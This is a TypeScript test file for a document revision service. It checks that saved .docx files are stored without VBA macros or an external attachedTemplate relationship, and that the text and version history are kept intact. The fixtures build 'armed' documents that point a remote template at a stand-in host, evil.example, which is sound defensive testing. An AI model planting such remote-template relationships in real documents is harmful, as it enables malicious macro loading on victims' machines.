import type { FileId } from '@redraft/contracts';
import {
  docxFromText,
  fflateCodec,
  inflateEntry,
  packEntry,
  readZip,
  textOfDocx,
  writeZip,
} from '@redraft/documents';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { db } from '../../../platform/db.ts';
import { useDatabase } from '../../../testing/database.ts';
import { createOpenFiles } from '../append/open-files.ts';
import { createRevisionService } from '../append/service.ts';
import { appendSave, createFile, headOf, readCurrent } from '../index.ts';
import { readAt, verifyChain } from '../read/read-versions.ts';

useDatabase();
const start = Date.parse('2026-03-02T10:00:00.000Z');
const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const rels = `<Relationships><Relationship Id="rId1" Type="${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;

/** A text document with macros and a remote template. */
function armed(text: string): Uint8Array {
  const part = (name: string, content: string) =>
    packEntry({ name, content: new TextEncoder().encode(content), codec: fflateCodec });
  return writeZip([
    ...readZip(docxFromText(text)),
    part('word/vbaProject.bin', 'evil'),
    part('word/_rels/settings.xml.rels', rels),
  ]);
}

function allOf(bytes: Uint8Array): string {
  return readZip(bytes)
    .map((entry) => `${entry.name} ${new TextDecoder().decode(inflateEntry(entry, fflateCodec))}`)
    .join('\n');
}

async function writeAll(...saves: Uint8Array[]): Promise<FileId> {
  const at = (second: number) => new Date(start + second * 1000);
  const bytes = docxFromText('');
  const { fileId } = await createFile({ kind: 'docx', name: 'essay.docx', bytes, origin: 'base', at: at(0) });
  for (const [index, save] of saves.entries()) {
    await appendSave({ fileId, bytes: save, at: at(index + 1), userId: null, origin: 'typed' });
  }
  return fileId;
}

it('a save with macros and a remote template becomes a version without them, with the same text', async () => {
  const id = await writeAll(armed('One'), armed('One two'));
  const { bytes, seq } = await readCurrent(id);
  expect(seq).toBe(2);
  expect(textOfDocx(bytes)).toBe('One two');
  expect(allOf(bytes)).not.toMatch(/evil|vbaProject/);
  expect(allOf(await readAt(id, 1))).not.toMatch(/evil|vbaProject/);
  expect(await headOf(id)).toMatchObject({ size: bytes.length });
  expect(await verifyChain(id)).toMatchObject({ isIntact: true, versions: 3 });
});

it('a save with macros and otherwise unchanged text creates no version', async () => {
  const id = await writeAll(armed('One'), armed('One'), docxFromText('One'));
  expect((await headOf(id)).seq).toBe(1);
});

it('a cleaned save is the same for a process that opens the file afresh', async () => {
  const id = await writeAll(armed('One'), armed('One two'));
  const another = createRevisionService(createOpenFiles());
  const saved = await another.appendSave({
    fileId: id,
    bytes: armed('One two'),
    at: new Date(start + 9000),
    userId: null,
    origin: 'typed',
  });
  expect(saved).toMatchObject({ seq: 2, changed: false });
  expect(allOf((await another.readCurrent(id)).bytes)).toBe(allOf((await readCurrent(id)).bytes));
});

describe('a version that was kept before saves were cleaned', () => {
  /** A version as an earlier version of the program stored it: replaces the bytes of the whole file. */
  async function keptArmed(): Promise<FileId> {
    const at = new Date(start);
    const { fileId } = await createFile({
      kind: 'docx',
      name: 'a.docx',
      bytes: docxFromText('Kept'),
      origin: 'base',
      at,
    });
    await sql`UPDATE file_blobs SET content = ${Buffer.from(armed('Kept'))}, encoding = 'raw', size = NULL
      WHERE hash IN (SELECT hash FROM file_blob_uses WHERE file_id = ${fileId})`.execute(db());
    return fileId;
  }

  it('an uncleaned stored version is returned without active content, with its real size', async () => {
    const id = await keptArmed();
    const another = createRevisionService(createOpenFiles());
    const { bytes } = await another.readCurrent(id);
    expect(allOf(bytes)).not.toMatch(/evil|vbaProject/);
    expect(textOfDocx(bytes)).toBe('Kept');
    expect(await another.headOf(id)).toMatchObject({ size: bytes.length });
    expect(allOf(await readAt(id, 0))).not.toMatch(/evil|vbaProject/);
  });

  it('an uncleaned stored version is followed by a clean one', async () => {
    const id = await keptArmed();
    const another = createRevisionService(createOpenFiles());
    const at = new Date(start + 1000);
    await another.appendSave({ fileId: id, bytes: armed('Kept on'), at, userId: null, origin: 'typed' });
    const { bytes, seq } = await createRevisionService(createOpenFiles()).readCurrent(id);
    expect(seq).toBe(1);
    expect(textOfDocx(bytes)).toBe('Kept on');
    expect(allOf(bytes)).not.toMatch(/evil|vbaProject/);
    expect(await verifyChain(id)).toMatchObject({ isIntact: true });
  });
});
